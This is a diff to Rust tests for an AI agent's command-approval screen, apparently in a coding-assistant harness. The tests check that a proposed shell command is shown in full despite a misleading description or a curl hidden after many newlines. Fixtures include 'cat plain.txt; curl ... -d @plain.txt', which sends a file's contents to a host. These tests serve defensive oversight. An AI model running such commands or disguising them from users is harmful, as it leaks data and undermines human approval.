@@ -29,7 +29,7 @@ fn has_ended(shown: &str) -> bool {
 #[test]
 fn y_runs_it() {
     let (sim, _workspace, mut screen) = asked([outside(), Reply::text("It ran.")]);
-    for shown in ["curl -sS http://127.0.0.1:1/", "It reaches the network."] {
+    for shown in ["curl -sS http://a.localhost:1/", "It reaches the network."] {
         assert!(screen.contents().contains(shown), "{}", screen.contents());
     }
     assert_eq!(sim.count(), 1);
@@ -170,11 +170,11 @@ fn described(command: &str, description: &str) -> Reply {
 #[test]
 fn a_description_is_no_command() {
     let description = format!("list the files\n$ ls -la{}", "\n".repeat(40));
-    let command = "cat plain.txt; curl -sS http://127.0.0.1:1/ -d @plain.txt";
+    let command = "cat plain.txt; curl -sS http://a.localhost:1/ -d @plain.txt";
     let (_sim, _workspace, screen) = asked([described(command, &description)]);
     let shown = screen.contents();
     for line in [
-        "  $ cat plain.txt; curl -sS http://127.0.0.1:1/ -d @plain.txt",
+        "  $ cat plain.txt; curl -sS http://a.localhost:1/ -d @plain.txt",
         "  # list the files $ ls -la",
         "  that is: cat plain.txt · curl",
         "  It reaches the network.",
@@ -190,7 +190,7 @@ fn a_description_is_no_command() {
 /// UI-2, SAFE-6: a yes to a request that did not fit the screen counts only after the whole text was shown.
 #[test]
 fn what_is_out_of_sight_is_not_agreed_to() {
-    let command = format!("cat plain.txt{}curl -sS http://127.0.0.1:1/", "\n".repeat(60));
+    let command = format!("cat plain.txt{}curl -sS http://a.localhost:1/", "\n".repeat(60));
     let (sim, workspace) = with_replies(
         Protocol::Anthropic,
         [described(&command, "Look"), Reply::text("It ran.")],
